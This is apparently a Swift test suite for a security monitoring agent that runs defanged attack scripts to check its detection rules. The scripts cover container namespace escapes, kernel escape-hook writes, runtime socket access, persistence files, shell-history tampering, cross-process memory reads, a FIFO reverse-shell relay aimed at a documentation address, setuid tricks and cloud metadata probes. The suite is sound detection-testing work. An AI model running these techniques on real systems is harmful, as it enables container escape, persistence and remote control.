import Foundation
import Testing

/// Attacks that had no rule before, each tried several ways a subject that knows the
/// rules would try it: another syscall, another spelling of the path, a refused
/// attempt. Every variant must be caught, by the rule's name and at its priority.
extension RealKernelTests {
    /// The rendered outputs of the alerts of `rule` at `priority`.
    func outputs(of rule: String, priority: String, in result: AgentResult) -> [String] {
        result.jsonLines().filter { $0["rule"] as? String == rule && $0["priority"] as? String == priority }
            .compactMap { $0["output"] as? String }
    }

    /// Runs `script` with sh under `trace --alerts` and the default rules.
    func traceScript(_ script: String, in dir: URL, environment: [String: String]? = nil) throws -> AgentResult {
        let file = dir.appendingPathComponent("script.sh")
        try Scratch.write(file.path, Data(script.utf8))
        return try Agent.run(
            ["trace", "--alerts", "--output", "json", "--", "sh", file.path], environment: environment, timeout: 150)
    }

    /// Expects one alert of `rule` at `priority` whose output holds each marker.
    func expectCaught(
        _ rule: String, _ priority: String, _ markers: [String], in result: AgentResult,
        sourceLocation: SourceLocation = #_sourceLocation
    ) {
        let seen = outputs(of: rule, priority: priority, in: result)
        for marker in markers {
            #expect(
                seen.contains { $0.contains(marker) }, "\(rule) missed \(marker): \(seen)",
                sourceLocation: sourceLocation)
        }
    }

    @Test func setnsIntoEveryNamespaceKindIsAnEscapeAttempt() throws {
        let dir = try Scratch.directory("setns")
        defer { try? FileManager.default.removeItem(at: dir) }
        let d = dir.path
        // setns(fd, 0) on the namespace file of a process of the subject's own (the
        // kind follows the file), and setns(pidfd, flags) on it: joining what one is
        // already in succeeds or is refused (one's own user namespace: EINVAL), an
        // attempt either way. (Pid 1 of a sandbox may refuse even root its files.)
        let python = """
            import ctypes, os, sys
            libc = ctypes.CDLL(None, use_errno=True)
            kind, target = sys.argv[1], int(sys.argv[2])
            if kind == "pidfd":
                fd = os.pidfd_open(target)
                libc.setns(fd, 0x04000000)  # CLONE_NEWUTS
            else:
                fd = os.open("/proc/%d/ns/%s" % (target, kind), os.O_RDONLY)
                libc.setns(fd, 0)
            """
        try Scratch.write("\(d)/setns.py", Data(python.utf8))
        let kinds = ["mnt", "net", "pid", "uts", "ipc", "user", "cgroup", "time", "pidfd"]
        var script = "sleep 30 &\ntarget=$!\n"
        for kind in kinds { script += "/usr/bin/python3 \(d)/setns.py \(kind) $target\n" }
        script += """
            nsenter -t $target -m true
            nsenter -t $target -n -u true
            setpriv --reuid=65534 --regid=65534 --clear-groups /usr/bin/python3 \(d)/setns.py pidfd $target
            kill $target
            exit 0
            """
        let result = try traceScript(script, in: dir)
        #expect(result.status == 0, "\(result.stderr)")
        expectCaught(
            "Namespace escape attempt", "Critical",
            kinds.map { "setns.py \($0)" } + [" -m true", " -n -u true", "result=EPERM"], in: result)
    }

    @Test func kernelSettingsWrittenOrTriedAreCaught() throws {
        let dir = try Scratch.directory("sysctl")
        defer { try? FileManager.default.removeItem(at: dir) }
        let d = dir.path
        // `true >> FILE` opens FILE for writing and writes nothing: nothing on this machine changes.
        let script = """
            true >> /proc/sys/kernel/core_pattern
            ln -s /proc/sys/kernel/core_pattern \(d)/innocent && true >> \(d)/innocent
            (cd /proc/sys/kernel && true >> ./modprobe)
            true >> /proc/sysrq-trigger
            true >> /sys/fs/cgroup/release_agent 2> /dev/null
            setpriv --reuid=65534 --regid=65534 --clear-groups sh -c 'true >> /proc/sys/kernel/core_pattern' 2> /dev/null
            sysctl -q -w vm.swappiness=$(cat /proc/sys/vm/swappiness)
            true >> /sys/kernel/mm/transparent_hugepage/enabled
            setpriv --reuid=65534 --regid=65534 --clear-groups sh -c 'true >> /proc/sys/vm/overcommit_memory' 2> /dev/null
            python3 -c 'import os; os.close(os.open("/proc/sys/net/ipv4/ip_forward", os.O_WRONLY))'
            cat /proc/sys/kernel/core_pattern /proc/sys/vm/swappiness > /dev/null
            exit 0
            """
        let result = try traceScript(script, in: dir)
        #expect(result.status == 0, "\(result.stderr)")
        let hooks = outputs(of: "Kernel escape hook written", priority: "Critical", in: result)
        #expect(
            hooks.filter { $0.contains("file=/proc/sys/kernel/core_pattern") }.count == 3,
            "direct, by a symlink, refused: \(hooks)")
        #expect(
            hooks.contains { $0.contains("file=/proc/sys/kernel/core_pattern") && $0.contains("result=EACCES") },
            "\(hooks)")
        expectCaught(
            "Kernel escape hook written", "Critical",
            ["file=/proc/sys/kernel/modprobe", "file=/proc/sysrq-trigger", "file=/sys/fs/cgroup/release_agent"],
            in: result)
        expectCaught(
            "Kernel setting written", "Error",
            [
                "file=/proc/sys/vm/swappiness", "file=/sys/kernel/mm/transparent_hugepage/enabled",
                "file=/proc/sys/vm/overcommit_memory", "file=/proc/sys/net/ipv4/ip_forward",
            ], in: result)
        #expect(outputs(of: "Kernel setting written", priority: "Error", in: result).count == 4, "reads raised nothing")
    }

    @Test func containerRuntimeSocketsByAnyPath() throws {
        let dir = try Scratch.directory("runtime-sockets")
        let tag = dir.lastPathComponent
        let run = "/run/\(tag)"
        let kubelet = "/var/lib/kubelet/pod-resources"
        let madeKubelet = !FileManager.default.fileExists(atPath: "/var/lib/kubelet")
        defer {
            try? FileManager.default.removeItem(at: dir)
            try? FileManager.default.removeItem(atPath: run)
            try? FileManager.default.removeItem(atPath: "\(kubelet)/\(tag).sock")
            if madeKubelet { try? FileManager.default.removeItem(atPath: "/var/lib/kubelet") }
        }
        try FileManager.default.createDirectory(atPath: run, withIntermediateDirectories: true)
        try FileManager.default.createDirectory(atPath: kubelet, withIntermediateDirectories: true)
        let d = dir.path
        // Listeners stand in for the runtimes; each client reaches one another way.
        let python = """
            import os, socket, sys
            def listen(path):
                s = socket.socket(socket.AF_UNIX)
                s.bind(path)
                s.listen(8)
                return s
            def reach(path, marker):
                c = socket.socket(socket.AF_UNIX)
                try:
                    c.connect(path)
                except OSError:
                    pass
                c.close()
            servers = [listen("\(run)/docker.sock"), listen("\(kubelet)/\(tag).sock"),
                       listen("\\0/containerd-shim/\(tag).sock")]
            os.symlink("\(run)/docker.sock", "\(d)/innocent")
            os.link("\(run)/docker.sock", "\(d)/hard")
            reach("\(run)/docker.sock", "direct")
            reach("/var/run/\(tag)/docker.sock", "through /var/run")
            reach("\(d)/innocent", "symlink")
            reach("\(d)/hard", "hard link")
            os.chdir("\(run)")
            reach("docker.sock", "relative")
            reach("\(kubelet)/\(tag).sock", "kubelet directory")
            reach("\\0/containerd-shim/\(tag).sock", "abstract shim")
            reach("\(run)/containerd.sock", "refused")
            """
        try Scratch.write("\(d)/reach.py", Data(python.utf8))
        let script = """
            /usr/bin/python3 \(d)/reach.py
            python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); s.bind("\(d)/app.sock"); s.listen(1); c = socket.socket(socket.AF_UNIX); c.connect("\(d)/app.sock")'
            exit 0
            """
        let result = try traceScript(script, in: dir)
        #expect(result.status == 0, "\(result.stderr)")
        let seen = outputs(of: "Container runtime socket contacted", priority: "Critical", in: result)
        // The symlink and the hard link are named by where the listener bound.
        #expect(
            seen.filter { $0.contains("socket=\(run)/docker.sock ") && $0.contains("result=SUCCESS") }.count == 5,
            "direct, /var/run, symlink, hard link, relative: \(seen)")
        #expect(seen.contains { $0.contains("socket=\(kubelet)/\(tag).sock") }, "\(seen)")
        #expect(seen.contains { $0.contains("socket=@/containerd-shim/\(tag).sock") }, "\(seen)")
        #expect(
            seen.contains { $0.contains("socket=\(run)/containerd.sock") && $0.contains("result=ENOENT") }, "\(seen)")
        #expect(seen.count == 8, "the application's own socket raised nothing: \(seen)")
    }

    @Test func miningPoolsByNameOnAnyPort() throws {
        let dir = try Scratch.directory("pools")
        defer { try? FileManager.default.removeItem(at: dir) }
        // The agent resolves pool names when its rules load, through the system's
        // resolver: the hosts file answers here, where no pool is reachable.
        let hosts = try String(contentsOfFile: "/etc/hosts", encoding: .utf8)
        defer { try? hosts.write(toFile: "/etc/hosts", atomically: false, encoding: .utf8) }
        let added = "\n127.0.0.2 pool.supportxmr.com\n127.0.0.3 xmr-eu1.nanopool.org\n127.0.0.4 rx.unmineable.com\n"
        try (hosts + added).write(toFile: "/etc/hosts", atomically: false, encoding: .utf8)
        let python = """
            import socket
            def reach(family, host, port):
                s = socket.socket(family)
                s.settimeout(1)
                try:
                    s.connect((host, port))
                except OSError:
                    pass
                s.close()
            reach(socket.AF_INET, "127.0.0.2", 443)
            reach(socket.AF_INET, "127.0.0.3", 80)
            reach(socket.AF_INET, "127.0.0.4", 10128)
            reach(socket.AF_INET6, "::ffff:127.0.0.2", 8443)
            reach(socket.AF_INET, "127.0.0.5", 443)
            """
        try Scratch.write("\(dir.path)/pools.py", Data(python.utf8))
        let result = try traceScript("/usr/bin/python3 \(dir.path)/pools.py\nexit 0\n", in: dir)
        #expect(result.status == 0, "\(result.stderr)")
        let seen = outputs(of: "Connection to a mining pool", priority: "Critical", in: result)
        for end in ["127.0.0.2:443", "127.0.0.3:80", "127.0.0.4:10128", "::ffff:127.0.0.2:8443"] {
            #expect(seen.contains { $0.contains("->\(end) ") }, "missed \(end): \(seen)")
        }
        #expect(seen.count == 4, "127.0.0.5 is no pool: \(seen)")
    }

    @Test func persistencePlacesWrittenOrTried() throws {
        let dir = try Scratch.directory("persist")
        let tag = dir.lastPathComponent
        let d = dir.path
        let preloadExisted = FileManager.default.fileExists(atPath: "/etc/ld.so.preload")
        let userUnits = "/root/.config/systemd/user"
        let madeUserUnits = !FileManager.default.fileExists(atPath: userUnits)
        let made = [
            "/etc/cron.d/\(tag)", "/var/spool/cron/crontabs/\(tag)", "/etc/systemd/system/\(tag).service",
            "/lib/systemd/system/\(tag).service", "\(userUnits)/\(tag).service", "/etc/profile.d/\(tag).sh",
            "/etc/cron.daily/\(tag)",
        ]
        defer {
            try? FileManager.default.removeItem(at: dir)
            for path in made { try? FileManager.default.removeItem(atPath: path) }
            if madeUserUnits { try? FileManager.default.removeItem(atPath: userUnits) }
            if !preloadExisted { try? FileManager.default.removeItem(atPath: "/etc/ld.so.preload") }
        }
        try FileManager.default.createDirectory(atPath: "/var/spool/cron/crontabs", withIntermediateDirectories: true)
        let script = """
            mkdir -p \(d)/home/alice \(d)/home/bob/.ssh \(userUnits)
            echo '* * * * * root true' > /etc/cron.d/\(tag)
            echo '* * * * * true' > /var/spool/cron/crontabs/\(tag)
            echo '[Service]' > /etc/systemd/system/\(tag).service
            echo '[Service]' > /lib/systemd/system/\(tag).service
            echo '[Service]' > \(userUnits)/\(tag).service
            echo true > /etc/profile.d/\(tag).sh
            true >> /etc/ld.so.preload
            echo 'true' >> \(d)/home/alice/.bashrc
            echo 'true' > \(d)/home/alice/.profile
            echo true > \(d)/payload && ln -s \(d)/payload \(d)/home/bob/.bash_profile
            echo true > \(d)/daily && mv \(d)/daily /etc/cron.daily/\(tag)
            echo 'ProxyCommand true' > \(d)/home/bob/.ssh/config
            setpriv --reuid=65534 --regid=65534 --clear-groups sh -c 'echo x > /etc/cron.d/\(tag)-refused' 2> /dev/null
            cat /etc/profile /etc/crontab > /dev/null 2>&1
            exit 0
            """
        let result = try traceScript(script, in: dir)
        #expect(result.status == 0, "\(result.stderr)")
        expectCaught(
            "Persistence location written", "Error",
            [
                "file=/etc/cron.d/\(tag) ", "file=/var/spool/cron/crontabs/\(tag) ",
                "file=/etc/systemd/system/\(tag).service",
                "file=/usr/lib/systemd/system/\(tag).service", "file=\(userUnits)/\(tag).service",
                "file=/etc/profile.d/\(tag).sh", "file=/etc/ld.so.preload", "file=\(d)/home/alice/.bashrc",
                "file=\(d)/home/alice/.profile", "\(d)/home/bob/.bash_profile", "/etc/cron.daily/\(tag)",
                "file=\(d)/home/bob/.ssh/config", "file=/etc/cron.d/\(tag)-refused",
            ],
            in: result)
    }

    @Test func shellHistoryTamperedEveryWay() throws {
        let dir = try Scratch.directory("history")
        defer { try? FileManager.default.removeItem(at: dir) }
        let d = dir.path
        try FileManager.default.createDirectory(atPath: "\(d)/h", withIntermediateDirectories: true)
        for name in ["a", "b", "c", "e", "f"] {
            try FileManager.default.createDirectory(atPath: "\(d)/\(name)", withIntermediateDirectories: true)
            try Scratch.write("\(d)/\(name)/.bash_history", Data("ls\nid\n".utf8))
        }
        try Scratch.write("\(d)/h/.zsh_history", Data(": 1:0;id\n".utf8))
        let script = """
            ln -sf /dev/null \(d)/a/.bash_history
            true > \(d)/b/.bash_history
            rm \(d)/c/.bash_history
            truncate -s 0 \(d)/h/.zsh_history
            mv \(d)/e/.bash_history \(d)/e/old
            HISTFILE=/dev/null sh -c 'echo marker-histfile > /dev/null'
            env HISTSIZE=0 /bin/true marker-histsize
            env HISTFILE= /bin/true marker-histempty
            env HISTFILE=/root/.bash_history /bin/true marker-histkept
            cat \(d)/f/.bash_history > /dev/null
            echo id >> \(d)/f/.bash_history
            exit 0
            """
        let result = try traceScript(script, in: dir)
        #expect(result.status == 0, "\(result.stderr)")
        expectCaught(
            "Shell history tampered", "Warning",
            [
                "\(d)/a/.bash_history", "file=\(d)/b/.bash_history", "file=\(d)/c/.bash_history",
                "file=\(d)/h/.zsh_history",
                "file=\(d)/e/.bash_history", "marker-histfile", "marker-histsize", "marker-histempty",
            ],
            in: result)
        let seen = outputs(of: "Shell history tampered", priority: "Warning", in: result)
        #expect(
            !seen.contains { $0.contains("\(d)/f/") || $0.contains("marker-histkept") },
            "reading and appending are not tampering: \(seen)")
    }

    @Test func reachingIntoAnotherProcess() throws {
        let dir = try Scratch.directory("cross-process")
        defer { try? FileManager.default.removeItem(at: dir) }
        let d = dir.path
        let python = """
            import ctypes, os, sys, time
            libc = ctypes.CDLL(None, use_errno=True)
            way = sys.argv[1]
            if way == "peek":
                pid = os.fork()
                if pid == 0:
                    libc.ptrace(0, 0, 0, 0)  # PTRACE_TRACEME: the child consents, no attach is made
                    os.kill(os.getpid(), 19)
                    os._exit(0)
                os.waitpid(pid, os.WUNTRACED)
                libc.ptrace.restype = ctypes.c_long
                libc.ptrace(2, pid, ctypes.c_void_p(0x400000), 0)  # PTRACE_PEEKDATA
                os.kill(pid, 9)
                os.waitpid(pid, 0)
                sys.exit(0)
            pid = os.fork()
            if pid == 0:
                time.sleep(20)
                os._exit(0)
            if way == "vm_readv":
                buffer = ctypes.create_string_buffer(8)
                class iovec(ctypes.Structure):
                    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
                local = iovec(ctypes.cast(buffer, ctypes.c_void_p), 8)
                remote = iovec(0x400000, 8)
                libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
            elif way == "getfd":
                pidfd = os.pidfd_open(pid)
                libc.syscall(438, pidfd, 0, 0)
            elif way == "mem":
                os.close(os.open("/proc/%d/mem" % pid, os.O_RDONLY))
            elif way == "environ":
                open("/proc/%d/environ" % pid, "rb").read()
            elif way == "dotdot":
                open("/proc/self/task/../../%d/environ" % pid, "rb").read()
            elif way == "own":
                open("/proc/self/environ", "rb").read()
                os.close(os.open("/proc/self/mem", os.O_RDONLY))
                os.close(os.open("/proc/thread-self/environ", os.O_RDONLY))
                open("/proc/%d/environ" % os.getpid(), "rb").read()
            os.kill(pid, 9)
            os.waitpid(pid, 0)
            """
        try Scratch.write("\(d)/reach.py", Data(python.utf8))
        var script = ""
        for way in ["peek", "vm_readv", "getfd", "mem", "environ", "dotdot", "own"] {
            script += "/usr/bin/python3 \(d)/reach.py \(way)\n"
        }
        script += "setpriv --reuid=65534 --regid=65534 --clear-groups cat /proc/1/environ > /dev/null 2>&1\nexit 0\n"
        let result = try traceScript(script, in: dir)
        #expect(result.status == 0, "\(result.stderr)")
        expectCaught(
            "Ptrace attach to another process", "Error",
            ["request=PTRACE_PEEKDATA", "syscall=process_vm_readv", "syscall=pidfd_getfd"], in: result)
        let procfs = outputs(of: "Another process's memory or environment opened", priority: "Error", in: result)
        for way in ["mem", "environ", "dotdot"] {
            #expect(procfs.contains { $0.contains("reach.py \(way)") }, "missed \(way): \(procfs)")
        }
        #expect(
            procfs.contains { $0.contains("file=/proc/1/environ") && $0.contains("result=EACCES") },
            "refused: \(procfs)")
        #expect(!procfs.contains { $0.contains("reach.py own") }, "its own entries: \(procfs)")
        #expect(procfs.count == 4, "\(procfs)")
    }

    @Test func relayedShellThroughPipes() throws {
        let dir = try Scratch.directory("relay")
        defer { try? FileManager.default.removeItem(at: dir) }
        let d = dir.path
        // A stand-in netcat (true, by name) that exits at once: the relay is wired,
        // the shell reads the end of its input and exits.
        let script = """
            mkdir -p \(d)/bin && cp /bin/true \(d)/bin/nc
            cd \(d) && mkfifo f1 f2 f3 f4
            cat f1 | sh -i 2>&1 | \(d)/bin/nc 192.0.2.1 4444 > f1
            sh -i < f2 2>&1 | \(d)/bin/nc 192.0.2.1 4444 > f2
            cat f3 | /bin/bash --norc -i 2>&1 | \(d)/bin/nc 192.0.2.1 4444 > f3
            sh < f4 2>&1 | \(d)/bin/nc 192.0.2.1 4444 > f4
            echo true | sh -s
            echo true | sh
            echo true | sh -c 'grep -i x > /dev/null; exit 0'
            echo ruok | \(d)/bin/nc 127.0.0.1 2181 | cat > /dev/null
            exit 0
            """
        let result = try Agent.run(
            ["trace", "--alerts", "--output", "json", "--", "timeout", "60", "sh", "-c", script], timeout: 120)
        #expect(result.status == 0, "\(result.stderr)")
        let shells = outputs(of: "Interactive shell reading from a pipe", priority: "Error", in: result)
        #expect(shells.filter { $0.contains("command=sh -i") }.count == 2, "cat | sh -i, sh -i < fifo: \(shells)")
        #expect(shells.contains { $0.contains("bash --norc -i") }, "\(shells)")
        #expect(shells.contains { $0.contains("fifo=true") && $0.contains("command=sh pid=") }, "sh < fifo: \(shells)")
        #expect(
            shells.count == 4, "sh -s and sh on an anonymous pipe, sh -c with -i in its command: not relays: \(shells)")
        let relays = outputs(of: "Network relay through a FIFO", priority: "Error", in: result)
        #expect(relays.count == 4, "the health check's pipes are anonymous: \(relays)")
    }

    /// The setuid bit through every chmod gate a subject may try beyond chmod(1):
    /// fchmodat2 (452, newer than the build's headers) natively and through
    /// `int $0x80`, fchmod on a descriptor, setgid alone; and the metadata address
    /// spelt as an IPv4-mapped IPv6 address, as a bare number, and as a datagram.
    @Test func fchmodat2AndMappedMetadataAddress() throws {
        let program = try CProgram.build(
            "chmod-gates",
            """
            #include <fcntl.h>
            #include <string.h>
            #include <sys/mman.h>
            #include <sys/syscall.h>
            #include <unistd.h>
            static long int80(long nr, long a, long b, long c, long d) {
                long ret;
                __asm__ volatile ("int $0x80" : "=a"(ret) : "a"(nr), "b"(a), "c"(b), "d"(c), "S"(d) : "memory");
                return ret;
            }
            int main(int argc, char **argv) {
                if (argc < 5) return 2;
                int ok = syscall(452, AT_FDCWD, argv[1], 04755, 0) == 0;
                char *low = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
                if (low == MAP_FAILED) return 3;
                strncpy(low, argv[2], 4000);
                ok &= int80(452, AT_FDCWD, (long)low, 04755, 0) == 0;
                int fd = open(argv[3], O_RDONLY);
                ok &= fchmod(fd, 04755) == 0;
                ok &= syscall(452, AT_FDCWD, argv[4], 02755, 0) == 0;
                return ok ? 0 : 1;
            }
            """)
        let dir = try Scratch.directory("chmod2")
        defer { try? FileManager.default.removeItem(at: dir) }
        let d = dir.path
        let script = """
            for f in native int80 fd setgid; do cp /bin/true \(d)/$f; done
            \(program) \(d)/native \(d)/int80 \(d)/fd \(d)/setgid || echo "chmod-gates failed: $?" >&2
            python3 -c 'import socket
            s = socket.socket(socket.AF_INET6); s.settimeout(0.3)
            try: s.connect(("::ffff:169.254.169.254", 80))
            except OSError: pass
            s = socket.socket(); s.settimeout(0.3)
            try: s.connect(("2852039166", 8080))
            except OSError: pass
            socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b"x", ("::ffff:169.254.169.254", 53))'
            exit 0
            """
        let result = try traceScript(script, in: dir)
        #expect(result.status == 0 && !result.stderr.contains("chmod-gates failed"), "\(result.stderr)")
        let chmods = outputs(of: "Set setuid or setgid bit", priority: "Error", in: result)
        for name in ["native", "int80", "fd", "setgid"] {
            #expect(chmods.contains { $0.contains("file=\(d)/\(name) ") }, "missed \(name): \(chmods)")
        }
        expectCaught(
            "Cloud metadata endpoint contacted", "Error",
            ["::ffff:169.254.169.254:80", "169.254.169.254:8080", "::ffff:169.254.169.254:53"], in: result)
        for name in ["native", "int80", "fd"] {
            let mode = try FileManager.default.attributesOfItem(atPath: "\(d)/\(name)")[.posixPermissions] as? Int
            #expect(mode == 0o4755, "\(name) really changed on this kernel")
        }
    }
}
